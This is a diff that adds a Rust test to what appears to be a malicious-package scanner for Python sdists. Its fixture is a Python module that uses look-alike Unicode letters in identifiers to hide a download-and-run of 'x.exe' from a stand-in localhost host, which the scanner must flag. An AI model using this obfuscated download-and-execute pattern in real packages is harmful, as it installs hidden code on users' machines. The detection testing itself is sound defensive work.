@@ -527,3 +527,21 @@ fn a_web_page_opened_at_import_is_a_probe() {
     let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", cli)]);
     assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
 }
+
+#[test]
+fn look_alike_letters_in_identifiers_are_read_as_python_reads_them() {
+    // colarg: `𝘳𝙚𝘀𝗽𝗼𝗻𝘀𝘦 = 𝗿𝗲𝙦𝘂𝙚𝘀𝘁𝘀.get(...)` is `response = requests.get(...)`.
+    let module = "import requests, subprocess\n\u{1d42e}\u{1d42b}\u{1d425} = 'http://127.0.0.1:9/x.exe'\n\u{1d42b} = \u{1d42b}\u{1d41e}\u{1d42a}\u{1d42e}\u{1d41e}\u{1d42c}\u{1d42d}\u{1d42c}.get(url)\nopen('x.exe', 'wb').write(r.content)\n\u{1d42c}\u{1d42e}\u{1d41b}\u{1d429}\u{1d42b}\u{1d428}\u{1d41c}\u{1d41e}\u{1d42c}\u{1d42c}.Popen(['x.exe'])\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    assert!(r.findings.iter().any(|f| f.code == "custody::obfuscation"));
+    // A table of math symbols (IPython's LaTeX completions) quotes them.
+    let table = "SYMBOLS = {'\\\\mbfA': '\u{1d400}', '\\\\mbfB': '\u{1d401}'}  # \u{1d402}\nDOC = \"\"\"\u{1d403} is bold D\"\"\"\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", table)]);
+    assert!(
+        !r.findings.iter().any(|f| f.code == "custody::obfuscation"),
+        "{:#?}",
+        r.findings
+    );
+    assert_eq!(r.verdict, Verdict::Clean);
+}
